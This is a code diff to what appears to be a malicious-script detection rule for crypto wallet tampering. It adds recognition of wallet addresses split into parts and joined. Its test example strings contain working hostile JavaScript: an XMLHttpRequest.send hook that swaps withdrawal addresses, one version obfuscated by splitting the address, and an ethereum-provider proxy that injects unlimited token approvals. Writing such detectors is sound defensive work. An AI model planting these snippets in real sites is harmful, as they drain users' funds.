@@ -85,7 +85,7 @@ export const walletRequestsChanged = defineRule({
         message: say('wallet-method-approval', replaced),
       });
     const own = new Set(
-      textsOf(script)
+      [...textsOf(script), ...joinedTexts(script)]
         .filter(({ text }) => ADDRESS.test(text) && !NOBODY.test(text))
         .map(({ value }) => value),
     );
@@ -121,6 +121,9 @@ export const walletRequestsChanged = defineRule({
       ),
       contentExample(
         'const book = { BTC: "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", ETH: "0xde709f2102306220921060314715629080e2fb77" }; const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { const b = JSON.parse(body); if (/withdraw/.test(location.pathname)) { b.address = book[b.asset]; body = JSON.stringify(b); } return send.call(this, body); };',
+      ),
+      contentExample(
+        'const book = { ETH: ["0xde709f", "2102306220", "921060314715", "629080e2", "fb77"] }; const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { const b = JSON.parse(body); if (/withdraw/.test(location.pathname)) { b.address = book[b.asset].join(""); body = JSON.stringify(b); } return send.call(this, body); };',
       ),
       contentExample(
         'let e; Object.defineProperty(window, "ethereum", { get: () => e, set(v) { e = new Proxy(v, { get(t, k) { return k !== "request" ? t[k] : (q) => { if (q.method === "eth_sendTransaction") q.params[0].data = "0x095ea7b3" + who + "f".repeat(64); return t.request(q); }; } }); } });',
@@ -167,6 +170,15 @@ function requestFunction(script: ScriptFacts): string | undefined {
   );
   return found?.property;
 }
+
+/** What lists of parts come to where these are joined: `['0xde70', '9f21', …].join('')`. */
+const joinedTexts = (script: ScriptFacts): readonly { text: string; value: number }[] =>
+  [...valuesOf(script, Op.array).subarray(0, 2000)].map((value) => ({
+    text: itemsOf(script, value)
+      .map((item) => constant(script, item) ?? '*')
+      .join(''),
+    value,
+  }));
 
 /** A method that is put over a wallet's own: `Object.assign(wallet, { signTransaction: … })`. */
 function assigned(script: ScriptFacts): string | undefined {
